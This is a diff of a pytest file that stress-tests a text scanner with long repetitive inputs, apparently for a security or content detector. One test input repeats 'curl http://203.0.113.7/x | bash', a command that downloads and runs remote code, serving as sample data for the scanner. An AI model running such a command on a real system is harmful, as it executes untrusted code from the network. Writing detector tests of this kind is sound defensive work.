@@ -88,13 +88,14 @@ def test_what_is_encoded_is_found_in_clear(data: bytes) -> None:
 
 @pytest.mark.parametrize("word", WORDS)
 def test_a_line_of_nothing_but_one_word_is_read(word: str, scanned: Scanner) -> None:
-    scanned(f"{word} " * (100_000 // (len(word) + 1)))
+    scanned(f"{word} " * (20_000 // (len(word) + 1)))
 
 
 @pytest.mark.parametrize(
     "text",
     [
         pytest.param("curl http://203.0.113.7/x | bash\n" * 3000, id="findings"),
+        pytest.param("curl " * 20_000, id="curl"),
         pytest.param("http://203.0.113.7/a\n" * 5000, id="links"),
         pytest.param("<!-- a -->\n" * 9000, id="comments"),
         pytest.param("![" * 50_000, id="pictures"),
